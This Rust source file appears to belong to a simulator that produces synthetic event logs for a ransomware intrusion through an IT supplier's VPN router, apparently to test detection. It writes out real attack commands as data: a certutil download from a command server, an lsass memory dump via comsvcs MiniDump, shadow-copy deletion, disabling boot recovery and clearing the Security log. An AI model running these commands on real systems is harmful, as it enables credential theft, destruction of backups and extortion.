//! Story A, 保守の扉: through the supplier's VPN router into its customers, and encryption by night.
//!
//! One behaviour is known to no bundled rule: the supplier's own signed maintenance tool, started by the print spooler
//! with a random argument of eight letters. It is seen at the two victims and, earlier, at 国土資料院.

use super::number;
use crate::clock::{HOUR, MINUTE, Millis, SECOND, midnight};
use crate::deed::{Actor, Deed, Parent, Planned, Script};
use crate::event::Mark;
use crate::hosts::{Host, Role};
use crate::machine::slot;
use crate::nation::THREAD;
use crate::programs::Code;
use crate::random::Random;
use crate::windows::Account;
use crate::world::World;
use jiff::civil::Date;

/// The days of story A.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct MaintenanceDoor {
    /// The tool runs at 国土資料院, unnoticed.
    pub relative: Date,
    /// はやぶさ保守 is entered and its passwords are taken.
    pub supplier: Date,
    /// ひなた市役所 and あおば病院 are entered in the evening and encrypted in the following night.
    pub climax: Date,
}

/// The public address of the supplier's VPN router. Its people come from a pool inside instead.
pub const ROUTER: &str = "198.51.100.20";
const MAINTAINER: &str = "hoshu-maint";
const KANRI: &str = "jousys-kanri";

const fn mark(ja: &'static str, en: &'static str, technique: &'static str, expected: bool) -> Mark {
    Mark { story: "A", ja, en, technique, expected }
}
const ENTER: Mark = mark(
    "保守用VPNルータからの遠隔デスクトップ",
    "remote desktop from the supplier's VPN router",
    "T1199",
    true,
);
const HANDS: Mark =
    mark("奪った管理者での操作", "working under a stolen administrator account", "T1078.002", false);
const TRUSTS: Mark = mark("ドメインの信頼関係の調査", "asking for the domain's trusts", "T1482", true);
const GROUPS: Mark = mark("管理者グループの調査", "asking who administers the domain", "T1069.002", true);
const TOOL: Mark = mark(
    "印刷スプーラによる保守ツールの起動",
    "maintenance tool started by the print spooler",
    "T1218",
    false,
);
const COMMAND: Mark = mark("指令サーバとの通信", "talking to the command server", "T1071.001", false);
const FETCH: Mark = mark("道具の取り寄せ", "fetching tools", "T1105", true);
const FETCHED: Mark = mark("取り寄せた道具の保存", "writing the fetched tools", "T1105", false);
const DUMP: Mark = mark("認証情報の吸い出し", "dumping credentials from lsass", "T1003.001", true);
const DUMP_FILE: Mark =
    mark("吸い出したメモリの保存", "writing the dumped memory to a file", "T1003.001", false);
const SPREAD: Mark =
    mark("管理者権限での横展開", "moving to other hosts as administrator", "T1021.002", false);
const SERVICE: Mark =
    mark("一時フォルダのサービス登録", "a service whose file lies in a temporary folder", "T1543.003", true);
const SERVICE_RUNS: Mark = mark("登録したサービスの起動", "the installed service starts", "T1569.002", false);
const TASK: Mark = mark("暗号化のタスク登録", "scheduling the encryption", "T1053.005", true);
const SHADOWS: Mark = mark("シャドウコピーの削除", "deleting shadow copies", "T1490", true);
const RECOVERY: Mark = mark("回復機能の無効化", "switching recovery off", "T1490", true);
const LOCK: Mark = mark("ファイルの暗号化", "encrypting files", "T1486", false);
const NOTE: Mark = mark("脅迫文の設置", "leaving ransom notes", "T1486", true);
const CLEAR: Mark = mark("ログの消去", "clearing the log", "T1070.001", true);

const SHELL: Actor = Actor(100, Code::Cmd);
const CARE: Actor = Actor(101, Code::HayabusaCare);
const DUMPER: Actor = Actor(102, Code::Rundll32);
const HELPER: Actor = Actor(103, Code::PrintHelper);
const LOCKER: Actor = Actor(104, Code::Locker);
const DESKTOP: Actor = Actor(105, Code::Explorer);
const ONCE: u16 = 106;

impl MaintenanceDoor {
    pub(super) fn deeds(&self, world: &World, index: usize, day: i64) -> Vec<Planned> {
        let host = &world.hosts[index];
        let mut random = Random::stream(world.seed, &[world.number, u64::from(host.number), 0xa]);
        let start = midnight(day);
        match world.organisation.as_str() {
            "chiri" if day == number(self.relative) => relative(host, start, &mut random),
            "hoshu" if day == number(self.supplier) && host.role == Role::Maintenance => {
                supplier(host, start)
            }
            "hinata" if day == number(self.climax) => victim(world, host, start, &mut random),
            "aoba" if day == number(self.climax) => victim(world, host, start + 37 * MINUTE, &mut random),
            _ => Vec::new(),
        }
    }
}

/// At 国土資料院 the print server and one desk run the tool; it looks around and is not used further.
fn relative(host: &Host, start: Millis, random: &mut Random) -> Vec<Planned> {
    let delay = match (host.role, host.number) {
        (Role::Print, _) => 0,
        (Role::Desk, 17) => 26 * MINUTE,
        _ => return Vec::new(),
    };
    let mut script = Script::at(start + 14 * HOUR + 20 * MINUTE + delay);
    tool(&mut script, random);
    script.deeds
}

/// The spooler starts the signed tool, which reports to the command server.
fn tool(script: &mut Script, random: &mut Random) {
    let command = format!(r#""C:\Program Files\Hayabusa Care\hbcare.exe" {}"#, random.letters(8));
    let path = format!(r"C:\ProgramData\Hayabusa Care\cache\{}.dat", random.letters(6));
    script
        .mark(TOOL)
        .start(CARE, Parent::Slot(slot::SPOOLER), (Account::System, &command))
        .wait(3 * SECOND)
        .mark(COMMAND)
        .add(Deed::Connect { actor: CARE, address: THREAD.into(), name: String::new(), port: 443 })
        .wait(20 * SECOND)
        .mark(TOOL)
        .add(Deed::File { actor: CARE, path })
        .wait(4 * MINUTE)
        .end(CARE);
}

/// はやぶさ保守: from the router to the maintenance host, passwords out of lsass, tools in.
fn supplier(host: &Host, start: Millis) -> Vec<Planned> {
    let mut script = Script::at(start + 23 * HOUR + 41 * MINUTE);
    sign_in(&mut script, host, KANRI);
    look_around(&mut script, KANRI);
    dump(&mut script, KANRI);
    let fetcher = Actor(ONCE, Code::Certutil);
    script
        .wait(9 * MINUTE)
        .mark(FETCH)
        .start(
            fetcher,
            Parent::Actor(SHELL),
            (
                Account::Named(KANRI),
                &format!(r"certutil -urlcache -split -f http://{THREAD}/u.bin C:\ProgramData\prn\u.bin"),
            ),
        )
        .wait(2 * SECOND)
        .mark(COMMAND)
        .add(Deed::Connect { actor: fetcher, address: THREAD.into(), name: String::new(), port: 80 })
        .wait(4 * SECOND)
        .mark(FETCHED)
        .add(Deed::File { actor: fetcher, path: r"C:\ProgramData\prn\u.bin".into() })
        .end(fetcher)
        .wait(5 * MINUTE);
    clear(&mut script, SHELL, Account::Named(KANRI));
    script.end(SHELL).end(DESKTOP);
    script.deeds
}

fn sign_in(script: &mut Script, host: &Host, user: &'static str) {
    script
        .mark(ENTER)
        .add(Deed::LogOn {
            user: user.into(),
            kind: 10,
            from: ROUTER.into(),
            workstation: host.short.clone(),
        })
        .wait(2)
        .mark(HANDS)
        .add(Deed::Special { user: user.into() })
        .wait(1500)
        .start(DESKTOP, Parent::Slot(slot::WINLOGON), (Account::Named(user), Code::Explorer.image()))
        .wait(3 * MINUTE);
}

fn look_around(script: &mut Script, user: &'static str) {
    let account = Account::Named(user);
    script
        .mark(HANDS)
        .start(SHELL, Parent::Actor(DESKTOP), (account, r#""C:\Windows\system32\cmd.exe""#))
        .wait(8 * SECOND)
        .run(Actor(ONCE, Code::Whoami), Parent::Actor(SHELL), (account, "whoami /all"), 400)
        .wait(30 * SECOND)
        .mark(TRUSTS)
        .run(
            Actor(ONCE, Code::Nltest),
            Parent::Actor(SHELL),
            (account, "nltest /domain_trusts /all_trusts"),
            900,
        )
        .wait(MINUTE)
        .mark(GROUPS)
        .run(
            Actor(ONCE, Code::Net),
            Parent::Actor(SHELL),
            (account, r#"net group "Domain Admins" /domain"#),
            700,
        )
        .wait(12 * MINUTE);
}

fn dump(script: &mut Script, user: &'static str) {
    let path = r"C:\ProgramData\prn\spl0417.dmp";
    let command = format!(r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {{lsass}} {path} full");
    script
        .mark(DUMP)
        .start(DUMPER, Parent::Actor(SHELL), (Account::Named(user), &command))
        .wait(300)
        .add(Deed::OpenLsass { actor: DUMPER, granted: "0x1fffff" })
        .wait(700)
        .mark(DUMP_FILE)
        .add(Deed::File { actor: DUMPER, path: path.into() })
        .wait(2 * SECOND)
        .end(DUMPER);
}

/// A victim's host: the maintenance host is entered by hand, the others over the network.
fn victim(world: &World, host: &Host, start: Millis, random: &mut Random) -> Vec<Planned> {
    let mut script = Script::at(start + 21 * HOUR + 48 * MINUTE);
    if host.role == Role::Maintenance {
        sign_in(&mut script, host, MAINTAINER);
        look_around(&mut script, MAINTAINER);
        tool(&mut script, random);
        dump(&mut script, MAINTAINER);
        go_on(&mut script, world);
        script.wait(2 * HOUR);
        clear(&mut script, SHELL, Account::Named(MAINTAINER));
        script.end(SHELL).end(DESKTOP);
    } else if is_reached(host) {
        script.wait(82 * MINUTE + i64::from(host.number) * 2 * MINUTE);
        reached(&mut script, world, random);
        if host.role != Role::Directory {
            let mut night = Script::at(start + 27 * HOUR + 5 * MINUTE + random.between(0, 40 * SECOND));
            encrypt(&mut night, host, random);
            clear(&mut night, HELPER, Account::System);
            night.wait(SECOND).end(HELPER);
            script.deeds.extend(night.deeds);
        }
    }
    script.deeds
}

/// All servers, and up to nine desks that are never switched off.
fn is_reached(host: &Host) -> bool {
    host.always_on && host.sysmon && host.number < 60
}

/// The maintenance host gives the stolen password for each of the others.
fn go_on(script: &mut Script, world: &World) {
    script.wait(40 * MINUTE).mark(SPREAD);
    for host in world.hosts.iter().filter(|host| is_reached(host) && host.role != Role::Maintenance) {
        script.add(Deed::Explicit { actor: SHELL, user: KANRI, server: host.short.clone() }).wait(2 * MINUTE);
    }
}

fn reached(script: &mut Script, world: &World, random: &mut Random) {
    let from = &world.hosts[5];
    script
        .mark(SPREAD)
        .add(Deed::LogOn {
            user: KANRI.into(),
            kind: 3,
            from: from.address.clone(),
            workstation: from.short.clone(),
        })
        .wait(1)
        .add(Deed::Special { user: KANRI.into() })
        .wait(700)
        .mark(SERVICE)
        .add(Deed::Service { name: "PrnSpoolHelper".into(), path: r"C:\Windows\Temp\prnhlp.exe".into() })
        .wait(20)
        .mark(SERVICE_RUNS)
        .start(HELPER, Parent::Slot(slot::SERVICES), (Account::System, r"C:\Windows\Temp\prnhlp.exe"))
        .add(Deed::State { name: "PrnSpoolHelper", state: "running" })
        .wait(40 * SECOND)
        .mark(DUMP)
        .add(Deed::OpenLsass { actor: HELPER, granted: "0x1410" })
        .wait(9 * SECOND);
    tool(script, random);
    let command =
        r"schtasks /create /tn PrnSync /tr C:\ProgramData\prn\tobira.exe /sc once /st 03:05 /ru SYSTEM /f";
    let scheduler = Actor(ONCE, Code::Schtasks);
    script
        .mark(SERVICE_RUNS)
        .wait(MINUTE)
        .add(Deed::File { actor: HELPER, path: Code::Locker.image().into() })
        .wait(5 * SECOND)
        .mark(TASK)
        .start(scheduler, Parent::Actor(HELPER), (Account::System, command))
        .wait(60)
        .add(Deed::Task {
            account: Account::System,
            name: r"\PrnSync".into(),
            command: Code::Locker.image().into(),
            arguments: String::new(),
        })
        .wait(90)
        .end(scheduler);
}

const FOLDERS: [&str; 12] =
    ["総務", "税務", "福祉", "会計", "防災", "契約", "窓口", "予算", "台帳", "医事", "検査", "共通"];
const FILES: [&str; 3] = ["台帳.xlsx", "起案.docx", "一覧.pdf"];

fn encrypt(script: &mut Script, host: &Host, random: &mut Random) {
    let delete = Actor(ONCE, Code::Vssadmin);
    let boot = Actor(ONCE + 1, Code::Bcdedit);
    script
        .mark(LOCK)
        .start(LOCKER, Parent::Slot(slot::SCHEDULER), (Account::System, Code::Locker.image()))
        .wait(2 * SECOND)
        .mark(SHADOWS)
        .run(delete, Parent::Actor(LOCKER), (Account::System, "vssadmin delete shadows /all /quiet"), 1500)
        .mark(RECOVERY)
        .run(
            boot,
            Parent::Actor(LOCKER),
            (Account::System, "bcdedit /set {default} recoveryenabled no"),
            300,
        );
    let root = if matches!(host.role, Role::Desk) {
        format!(r"C:\Users\{}\Documents", host.user)
    } else {
        r"D:\kyoyu".into()
    };
    for folder in FOLDERS {
        for file in FILES {
            script
                .wait(random.between(200, 4000))
                .mark(LOCK)
                .add(Deed::File { actor: LOCKER, path: format!(r"{root}\{folder}\{file}.tobira") });
        }
        script
            .wait(random.between(50, 400))
            .mark(NOTE)
            .add(Deed::File { actor: LOCKER, path: format!(r"{root}\{folder}\README_RESTORE_FILES.txt") });
    }
    script.wait(20 * MINUTE).end(LOCKER);
}

fn clear(script: &mut Script, parent: Actor, account: Account) {
    let tool = Actor(ONCE + 2, Code::Wevtutil);
    script
        .mark(CLEAR)
        .start(tool, Parent::Actor(parent), (account, "wevtutil cl Security"))
        .wait(120)
        .add(Deed::Cleared { account })
        .wait(50)
        .end(tool);
}
